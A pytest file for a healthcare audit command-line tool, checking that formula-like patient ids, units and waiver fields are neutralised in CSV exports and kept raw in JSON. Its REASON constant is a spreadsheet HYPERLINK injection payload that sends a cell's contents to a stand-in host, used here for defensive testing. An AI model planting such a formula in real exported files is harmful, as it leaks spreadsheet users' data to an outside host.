"""CSV injection (issue 12): a formula-like id, unit or waiver reason reaches the CSV files
with a leading ``'`` unless the user asks for ``--raw-csv``; the JSON keeps every value as it is."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from test_cli import ASSESSMENTS, COORDINATORS, DOCUMENTS, PATIENTS, invoke

HOSTILE = {"0001": "=1+2", "0002": "-0002", "DPS Nord": "+DPS Nord", "Medisinsk avdeling": "@Medisinsk"}
REASON = '=HYPERLINK("http://x.example/?d="&A1;"klikk")'
APPROVER = "-Kari Revisor"


def _hostile(text: str) -> str:
    for plain, formula in HOSTILE.items():
        text = text.replace(plain, formula)
    return text


@pytest.fixture
def run(tmp_path: Path) -> tuple[Path, list[str]]:
    """An extract whose patient ids and units start like formulas, with a waiver whose
    reason and approver do too; returns the output folder and the audit's arguments."""
    extract = tmp_path / "uttrekk"
    extract.mkdir()
    for name, text in {
        "pasienter.csv": PATIENTS,
        "vurderinger.csv": ASSESSMENTS,
        "dokumenter.csv": DOCUMENTS,
        "koordinatorer.csv": COORDINATORS,
    }.items():
        (extract / name).write_bytes(_hostile(text).encode("cp1252"))
    waivers = tmp_path / "unntak.toml"
    waivers.write_text(
        f"[[waiver]]\nrule = \"IP07\"\npatient = \"-0002\"\nreason = '{REASON}'\n"
        f'approved_by = "{APPROVER}"\nexpires = 2025-12-31\n',
        encoding="utf-8",
    )
    out = tmp_path / "o"
    args = ["audit", str(extract), "--as-of", "2025-06-30", "--out", str(out), "--format", "csv,json"]
    return out, [*args, "--waivers", str(waivers), "--fail-on", "never"]


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def test_formula_like_text_from_extract_and_waivers_is_neutralised(run: tuple[Path, list[str]]) -> None:
    out, args = run
    invoke(args, 0)
    results = _rows(out / "ipaudit-results.csv")
    assert {r["patient_id"] for r in results} == {"'=1+2", "'-0002"}
    assert {r["unit"] for r in results} == {"'+DPS Nord", "'@Medisinsk"}
    assert {r["index_date"] for r in results} == {"2025-03-03", "2025-03-05"}  # dates are not text
    waived = [r for r in results if r["waiver_reason"]]
    assert [(r["rule_id"], r["waiver_reason"], r["waiver_approved_by"]) for r in waived] == [
        ("IP07", "'" + REASON, "'" + APPROVER)
    ]
    [waiver] = _rows(out / "ipaudit-waivers.csv")
    assert (waiver["patient_id"], waiver["reason"], waiver["approved_by"]) == ("'-0002", "'" + REASON, "'" + APPROVER)
    assert waiver["expires"] == "2025-12-31"
    raw = (out / "ipaudit-results.csv").read_text(encoding="utf-8-sig")
    # OWASP: the cell is quoted and its own quotes doubled, so the ';' stays inside it.
    assert '"\'=HYPERLINK(""http://x.example/?d=""&A1;""klikk"")"' in raw
    [rejected] = _rows(out / "ipaudit-rejected.csv")
    assert rejected["row"] == "7"
    assert ',7,"doc_date"' in (out / "ipaudit-rejected.csv").read_text(encoding="utf-8-sig")  # a number, unquoted


def test_json_is_not_a_spreadsheet_and_keeps_the_values(run: tuple[Path, list[str]]) -> None:
    out, args = run
    invoke(args, 0)
    doc = json.loads((out / "ipaudit-results.json").read_text("utf-8"))
    assert {r["patient_id"] for r in doc["results"]} == {"=1+2", "-0002"}
    assert {r["unit"] for r in doc["results"]} == {"+DPS Nord", "@Medisinsk"}
    [applied] = doc["waivers"]["applied"]
    assert applied["reason"] == REASON


def test_raw_csv_keeps_the_values_as_they_are(run: tuple[Path, list[str]]) -> None:
    out, args = run
    invoke([*args, "--raw-csv"], 0)
    results = _rows(out / "ipaudit-results.csv")
    assert {r["patient_id"] for r in results} == {"=1+2", "-0002"}
    assert {r["unit"] for r in results} == {"+DPS Nord", "@Medisinsk"}
    [waiver] = _rows(out / "ipaudit-waivers.csv")
    assert (waiver["patient_id"], waiver["reason"], waiver["approved_by"]) == ("-0002", REASON, APPROVER)
    lines = (out / "ipaudit-rejected.csv").read_text(encoding="utf-8-sig").splitlines()
    assert lines[1].startswith("documents,7,doc_date,")  # quoted only where RFC 4180 needs it


def test_raw_csv_without_the_csv_format_is_a_usage_error(run: tuple[Path, list[str]]) -> None:
    out, args = run
    args[args.index("csv,json")] = "json"
    result = invoke([*args, "--raw-csv"], 2)
    assert result.stderr.strip() == "ipaudit: feil: --raw-csv gjelder bare med csv blant formatene (--format)"
    assert not out.exists() or not any(p.name.startswith("ipaudit-") for p in out.iterdir())
